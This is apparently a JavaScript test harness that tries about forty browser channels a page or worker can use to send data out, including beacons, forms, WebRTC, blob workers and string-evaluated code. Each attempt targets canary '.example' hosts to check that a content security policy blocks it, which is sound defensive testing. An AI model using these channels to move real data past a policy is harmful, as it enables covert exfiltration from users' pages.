// Every way out of a page and of a worker that a browser offers, to be tried in the page that is tested
// and, to see that the way is one, in a page without a policy. Each attempt carries its name to another
// host, and to the page's own host, where it could be read by whoever runs that.

/** What is tried in a page; `to` is where. An exception is a refusal. */
const PAGE = {
  fetch: (to) => fetch(to, { mode: "no-cors" }),
  "fetch by POST": (to) => fetch(to, { mode: "no-cors", method: "POST", body: "data" }),
  "fetch keepalive": (to) => fetch(to, { mode: "no-cors", keepalive: true }),
  xhr: (to) =>
    new Promise((resolve, reject) => {
      const request = new XMLHttpRequest();
      request.open("GET", to);
      request.onloadend = () => (request.status > 0 ? resolve() : reject(new Error("no answer")));
      request.send();
    }),
  websocket: (to) => void new WebSocket(to.replace("http", "ws")),
  eventsource: (to) => void new EventSource(to),
  webtransport: (to) => new WebTransport(to.replace("http:", "https:")).ready,
  beacon: (to) => void navigator.sendBeacon(to, "data"),
  image: (to) => void (new Image().src = to),
  "style sheet": (to) => add("link", { rel: "stylesheet", href: to }),
  "style element": (to) => add("style", { textContent: `body { background: url(${to}) }` }),
  "style sheet made by script": (to) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`body { background: url(${to}) }`);
    document.adoptedStyleSheets = [sheet];
  },
  font: (to) => new FontFace("x", `url(${to})`).load(),
  audio: (to) => add("audio", { src: to, preload: "auto" }),
  frame: (to) => add("iframe", { src: to }),
  object: (to) => add("object", { data: to, type: "text/html" }),
  prefetch: (to) => add("link", { rel: "prefetch", href: to }),
  preload: (to) => add("link", { rel: "preload", as: "fetch", crossOrigin: "anonymous", href: to }),
  modulepreload: (to) => add("link", { rel: "modulepreload", href: to }),
  icon: (to) => add("link", { rel: "icon", href: to }),
  script: (to) => add("script", { src: to }),
  "inline script": (to) => add("script", { textContent: `fetch("${to}", { mode: "no-cors" })` }),
  // Not eval itself: what a test evaluates may do that.
  "code from text": (to) => void setTimeout(`fetch("${to}", { mode: "no-cors" })`),
  import: (to) => import(to),
  markup: (to) => void (document.body.appendChild(document.createElement("p")).innerHTML = `<img src="${to}">`),
  worker: (to) => void new Worker(to),
  "shared worker": (to) => void new SharedWorker(to),
  "worker from a blob": (to) => {
    const code = new Blob([`fetch("${to}", { mode: "no-cors" })`], { type: "text/javascript" });
    return void new Worker(URL.createObjectURL(code));
  },
  "service worker": (to) => navigator.serviceWorker.register(to),
  form: (to) => {
    const form = add("form", { action: to, method: "get" });
    form.append(Object.assign(document.createElement("input"), { name: "data", value: to }));
    form.submit();
  },
  "form by POST": (to) => add("form", { action: to, method: "post" }).submit(),
  link: (to) => add("a", { href: to, textContent: "x" }).click(),
  "download link": (to) => add("a", { href: to, download: "x.txt", textContent: "x" }).click(),
  ping: (to) => add("a", { href: "#x", ping: to, textContent: "x" }).click(),
  "window.open": (to) => void window.open(to),
  "window.open of text": (to) => {
    const other = window.open("about:blank");
    other.document.write(`<img src="${to}">`);
  },
  location: (to) => void (location.href = to),
  webrtc: async (to) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(to).host}` }] });
    peer.createDataChannel("x");
    await peer.setLocalDescription();
  },
};

/** What is tried in a worker; `kept` has what the worker gives up before anything else runs in it. */
const WORKER = {
  fetch: (to) => kept.fetch(to, { mode: "no-cors" }),
  "fetch by POST": (to) => kept.fetch(to, { mode: "no-cors", method: "POST", body: "data" }),
  xhr: (to) =>
    new Promise((resolve, reject) => {
      const request = new kept.XMLHttpRequest();
      request.open("GET", to);
      request.onloadend = () => (request.status > 0 ? resolve() : reject(new Error("no answer")));
      request.send();
    }),
  websocket: (to) => void new kept.WebSocket(to.replace("http", "ws")),
  eventsource: (to) => void new kept.EventSource(to),
  webtransport: (to) => new kept.WebTransport(to.replace("http:", "https:")).ready,
  importScripts: (to) => kept.importScripts(to),
  import: (to) => import(to),
  worker: (to) => void new kept.Worker(to),
  "worker from a blob": (to) => {
    const code = new Blob([`fetch("${to}", { mode: "no-cors" })`], { type: "text/javascript" });
    return void new kept.Worker(URL.createObjectURL(code));
  },
  "code from text": (to) => void setTimeout(`kept.fetch("${to}", { mode: "no-cors" })`),
};

export const ATTEMPTS = { page: Object.keys(PAGE), worker: Object.keys(WORKER) };

/** Where an attempt goes: its place among its kind is in every address. */
export function mark(kind, name, where) {
  return `canary-${kind}-${ATTEMPTS[kind].indexOf(name)}-${where}`;
}

export function address(kind, name, where, own) {
  const sign = mark(kind, name, where);
  return where === "own" ? `${own}?${sign}` : `http://${sign}.example/`;
}

/**
 * Tries it in a page or a worker of puppeteer's; what refused it, or "" where nothing did within
 * `patience` milliseconds: a browser may leave some attempts for when it has time.
 */
export function attempt(place, kind, name, to, patience = 5000) {
  const source = { page: PAGE, worker: WORKER }[kind][name].toString();
  return place.evaluate(
    `(async () => {
      const add = (name, fields) =>
        document.body.appendChild(Object.assign(document.createElement(name), fields));
      const sign = /canary-[a-z]+-\\d+-[a-z]+/.exec(${JSON.stringify(to)})[0];
      const refused = new Promise((resolve) => {
        self.addEventListener("securitypolicyviolation", (event) => {
          // Code has no address.
          if (event.blockedURI.includes(sign) || !event.blockedURI.includes("canary-"))
            resolve("policy: " + event.effectiveDirective);
        });
        if (typeof navigation === "object") navigation.addEventListener("navigate", (event) =>
          setTimeout(() => event.defaultPrevented && resolve("navigation stopped")));
      });
      const tried = (async () => (${source})(${JSON.stringify(to)}))().then(
        () => new Promise((resolve) => setTimeout(() => resolve(""), ${patience})),
        // Where the policy has a word to say, it is said right after.
        (error) => new Promise((resolve) =>
          setTimeout(() => resolve(error.name + ": " + error.message), 100)),
      );
      return Promise.race([refused, tried]);
    })()`,
  );
}

/** Before the page begins: its worker will keep what it gives up, so that the policy alone is tested. */
export function keepMeans() {
  const Blob = window.Blob;
  window.Blob = class extends Blob {
    constructor(parts, options) {
      const isScript = options?.type === "text/javascript";
      const keep = `self.kept = { fetch: self.fetch.bind(self), XMLHttpRequest, WebSocket, EventSource,
        WebTransport: self.WebTransport, importScripts: importScripts.bind(self), Worker: self.Worker };\n`;
      super(isScript ? [keep, ...parts] : parts, options);
    }
  };
}
